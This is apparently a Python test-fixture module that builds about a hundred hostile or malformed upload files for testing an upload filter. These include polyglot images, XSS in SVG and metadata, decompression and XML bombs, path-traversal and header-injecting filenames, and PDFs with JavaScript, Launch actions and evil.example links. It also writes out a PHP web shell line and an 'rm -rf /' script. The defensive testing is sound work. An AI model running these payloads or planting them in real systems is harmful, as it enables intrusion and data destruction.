"""A hundred files that someone might hand in with bad intent, or by mistake. All of them are made here."""

import io
import struct
import zipfile
import zlib
from typing import Any

import pikepdf
from PIL import Image

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SCRIPT = b"<script>alert(document.domain)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
FORMS = ("JPEG", "PNG", "WEBP")


def picture(form: str = "JPEG", size: tuple[int, int] = (40, 30), **options: Any) -> bytes:
    """A small picture of one colour."""
    written = io.BytesIO()
    Image.new("RGB", size, (120, 160, 90)).save(written, form, **options)
    return written.getvalue()


def photo_with_position(form: str = "JPEG") -> bytes:
    """A photo as a phone makes it: turned, with position, camera and a remark."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by 90 degrees
    exif[0x010F] = "PLANTED-CAMERA"
    exif[0x9286] = "PLANTED-REMARK"
    exif[0x8825] = {1: "N", 2: (50.0, 47.0, 13.5), 3: "E", 4: (121.0, 31.0, 7.5), 29: "PLANTED-DAY"}
    xmp = b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><GPSLatitude>50,47.2N PLANTED-XMP</GPSLatitude></x:xmpmeta>"
    options: dict[str, Any] = {"exif": exif} | ({"xmp": xmp} if form != "PNG" else {})
    options |= {"comment": b"PLANTED-COMMENT"} if form == "JPEG" else {}
    return picture(form, **options)


def document(change=None, **save: Any) -> bytes:
    """A PDF of one page, changed by a function."""
    made = pikepdf.new()
    made.add_blank_page(page_size=(200, 200))
    if change:
        change(made)
    written = io.BytesIO()
    made.save(written, **save)
    return written.getvalue()


def _action(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **more)


def _script() -> pikepdf.Dictionary:
    return _action("JavaScript", JS=pikepdf.String("app.alert('PLANTED')"))


def _open_action(made):
    made.Root.OpenAction = _script()


def _open_action_apart(made):
    made.Root.OpenAction = made.make_indirect(_script())


def _launch(made):
    made.Root.OpenAction = _action("Launch", F=pikepdf.String("cmd.exe PLANTED"))


def _chained(made):
    made.Root.OpenAction = _action("GoTo", D=pikepdf.Array(), Next=pikepdf.Array([_script()]))


def _names(made):
    made.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("PLANTED"), _script()]))
    )


def _attached(made):
    made.attachments["PLANTED.exe"] = b"MZ PLANTED " + EICAR


def _page_action(made):
    made.pages[0].AA = pikepdf.Dictionary(O=_script())


def _link(kind, **more):
    def change(made):
        link = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=_action(kind, **more)
        )
        made.pages[0].Annots = pikepdf.Array([made.make_indirect(link)])

    return change


def _annotation(kind):
    def change(made):
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name(f"/{kind}"),
            Rect=[0, 0, 9, 9],
            Contents=pikepdf.String("PLANTED"),
        )
        made.pages[0].Annots = pikepdf.Array([annotation])

    return change


def _xfa(made):
    made.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=made.make_stream(b"<xdp>PLANTED</xdp>"), AA=pikepdf.Dictionary(C=_script())
    )


def _field_script(made):
    field = pikepdf.Dictionary(
        FT=pikepdf.Name.Tx, T=pikepdf.String("a"), Subtype=pikepdf.Name.Widget, AA=pikepdf.Dictionary(K=_script())
    )
    made.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([made.make_indirect(field)]))


def _told(made):
    made.docinfo["/Author"] = "PLANTED"
    with made.open_metadata() as told:
        told["dc:title"] = "PLANTED"


def _photo_inside(made):
    photo = made.make_stream(photo_with_position())
    photo.Type, photo.Subtype, photo.Filter = pikepdf.Name.XObject, pikepdf.Name.Image, pikepdf.Name.DCTDecode
    photo.Width, photo.Height, photo.ColorSpace, photo.BitsPerComponent = 40, 30, pikepdf.Name.DeviceRGB, 8
    made.pages[0].Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=photo))
    made.pages[0].Contents = made.make_stream(b"q 40 0 0 30 0 0 cm /Im0 Do Q")


def _outline(made):
    made.Root.Outlines = made.make_indirect(
        pikepdf.Dictionary(First=made.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("a"), A=_script())))
    )


def _deep(made):
    inner: object = pikepdf.String("PLANTED")
    for _ in range(200):
        inner = pikepdf.Array([inner])
    made.Root.Deep = inner


PDF_TRICKS = {
    "open-action": _open_action,
    "open-action-apart": _open_action_apart,
    "launch": _launch,
    "chained": _chained,
    "names": _names,
    "attached": _attached,
    "page-action": _page_action,
    "link-script": _link("JavaScript", JS=pikepdf.String("PLANTED")),
    "link-launch": _link("Launch", F=pikepdf.String("PLANTED")),
    "link-out": _link("URI", URI=pikepdf.String("http://evil.example/PLANTED")),
    "link-remote": _link("GoToR", F=pikepdf.String("//evil.example/PLANTED")),
    "link-submit": _link("SubmitForm", F=pikepdf.String("http://evil.example/PLANTED")),
    "link-import": _link("ImportData", F=pikepdf.String("PLANTED")),
    "note-file": _annotation("FileAttachment"),
    "note-media": _annotation("RichMedia"),
    "note-screen": _annotation("Screen"),
    "note-movie": _annotation("Movie"),
    "note-sound": _annotation("Sound"),
    "xfa": _xfa,
    "field-script": _field_script,
    "told": _told,
    "photo-inside": _photo_inside,
    "outline": _outline,
    "deep": _deep,
}


def packed(*names: str, content: bytes = b"x", first: bool = False) -> bytes:
    """An archive with such names in it."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_STORED if first else zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return written.getvalue()


def chunk(kind: bytes, content: bytes) -> bytes:
    """One part of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_of(width: int, height: int, rows: bytes = b"") -> bytes:
    """A PNG that claims a size, whatever is in it."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(rows or b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def hundred() -> dict[str, tuple[str, bytes]]:
    """By what it tries: the name it is handed in under, and its content."""
    found: dict[str, tuple[str, bytes]] = {}
    for form in FORMS:
        whole, name = picture(form), f"photo.{form.lower()}"
        found |= {
            f"{form} and html": (name, whole + HTML),
            f"{form} and zip": (name, whole + packed("evil.exe", content=EICAR)),
            f"{form} and eicar": (name, whole + EICAR),
            f"{form} and pdf": (name, whole + document()),
            f"{form} cut off": (name, whole[: len(whole) // 2]),
            f"{form} head alone": (name, whole[:16]),
            f"{form} as html": ("photo.html", whole),
            f"{form} as svg": ("photo.svg", whole),
            f"{form} as exe": ("photo.jpg.exe", whole),
            f"{form} after html": (name, HTML + whole),
            f"{form} flooded": (name, whole[:20] + b"\xff" * 2000 + whole[20:]),
            f"{form} with position": (name, photo_with_position(form)),
        }
    found |= {
        "jpeg comment html": ("a.jpg", picture(comment=HTML)),
        "jpeg comment eicar": ("a.jpg", picture(comment=EICAR)),
        "jpeg exif html": ("a.jpg", picture(exif=_exif("<script>alert('PLANTED')</script>"))),
        "png text html": ("a.png", _png_with_text(SCRIPT)),
        "png text bomb": ("a.png", _png_with_text(b"\0" * 50_000_000)),
        "png of 50,000 by 50,000": ("a.png", png_of(50_000, 50_000)),
        "png of 2 billion columns": ("a.png", png_of(2**31 - 1, 1)),
        "png bomb": ("a.png", png_of(7000, 7000, b"\0" * (7000 * 3 + 1) * 7000)),
        "png without rows": ("a.png", png_of(10, 10, b"\0")),
        "gif": ("a.jpg", picture("GIF")),
        "gif with script": ("a.gif", b"GIF89a/*" + SCRIPT + b"*/=1"),
        "bmp": ("a.png", picture("BMP")),
        "tiff": ("a.jpg", picture("TIFF")),
        "heic": ("IMG_1.HEIC", b"\0\0\0\x18ftypheic" + bytes(40)),
        "video": ("a.jpg", b"\0\0\0\x18ftypmp42" + bytes(40)),
        "svg": ("a.svg", SVG),
        "svg as png": ("a.png", SVG),
        "svg after declaration": ("a.jpg", b'<?xml version="1.0"?>\n' + SVG),
        "html as jpeg": ("a.jpg", HTML),
        "html as pdf": ("a.pdf", HTML),
        "html with a mark": ("a.pdf", b"\xef\xbb\xbf" + HTML),
        "html in utf-16": ("a.pdf", HTML.decode().encode("utf-16")),
        "xml bomb": ("a.xml", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>'),
        "php": ("a.php", b"<?php system($_GET['c']); ?>"),
        "php as jpeg": ("a.php.jpg", b"<?php system($_GET['c']); ?>"),
        "shell": ("a.sh", b"#!/bin/sh\nrm -rf /\n"),
        "program": ("a.exe", b"MZ" + bytes(200)),
        "program as pdf": ("a.pdf", b"\x7fELF" + bytes(200)),
        "class": ("a.class", b"\xca\xfe\xba\xbe" + bytes(50)),
        "eicar": ("eicar.com", EICAR),
        "eicar as pdf": ("eicar.pdf", EICAR),
        "docx": ("a.docx", packed("[Content_Types].xml", "word/document.xml")),
        "docm": ("a.docm", packed("[Content_Types].xml", "word/vbaProject.bin", content=EICAR)),
        "docm as pdf": ("a.pdf", packed("[Content_Types].xml", "word/vbaProject.bin")),
        "xlsm": ("a.xlsm", packed("[Content_Types].xml", "xl/vbaProject.bin")),
        "odt": ("a.odt", packed("mimetype", content=b"application/vnd.oasis.opendocument.text", first=True)),
        "old doc": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(200)),
        "rtf": ("a.rtf", b"{\\rtf1 {\\object PLANTED}}"),
        "zip": ("a.zip", packed("../../etc/passwd")),
        "zip as jpeg": ("a.jpg", packed("../../etc/passwd")),
        "rar": ("a.rar", b"Rar!\x1a\x07\0" + bytes(50)),
        "7z": ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(50)),
        "gzip": ("a.gz", b"\x1f\x8b\x08" + bytes(50)),
        "empty": ("a.jpg", b""),
        "nothing but zeros": ("a.jpg", bytes(5000)),
        "text": ("a.txt", "身份证".encode()),
        "path up": ("../../../etc/cron.d/evil.jpg", picture()),
        "path of windows": ("..\\..\\windows\\evil.jpg", picture()),
        "path from the root": ("/etc/passwd", picture()),
        "name with a zero": ("a.jpg\0.html", picture()),
        "name turned around": ("\u202egpj.exe", picture()),
        "name with lines": ('a.jpg"\r\nContent-Type: text/html\r\n\r\n<script>', picture()),
        "name of dots": ("..", picture()),
        "very long name": ("证" * 3000 + ".jpg", picture()),
        "pdf cut off": ("a.pdf", document()[:200]),
        "pdf head alone": ("a.pdf", b"%PDF-1.7\n"),
        "pdf and html": ("a.pdf", document() + HTML),
        "pdf and zip": ("a.pdf", document() + packed("evil.exe")),
        "pdf after html": ("a.pdf", HTML + document()),
        "pdf with a password": ("a.pdf", document(encryption=pikepdf.Encryption(user="x", owner="y"))),
        "pdf with an owner": ("a.pdf", document(encryption=pikepdf.Encryption(user="", owner="y"))),
        "pdf without pages": ("a.pdf", document(lambda made: made.pages.remove(p=1))),
    }
    for name, change in PDF_TRICKS.items():
        found[f"pdf {name}"] = (f"{name}.pdf", document(change))
    return found


def _exif(text: str) -> Image.Exif:
    exif = Image.Exif()
    exif[0x010E] = text
    return exif


def _png_with_text(text: bytes) -> bytes:
    whole = picture("PNG")
    place = whole.index(b"IDAT") - 4
    return whole[:place] + chunk(b"zTXt", b"Comment\0\0" + zlib.compress(text)) + whole[place:]
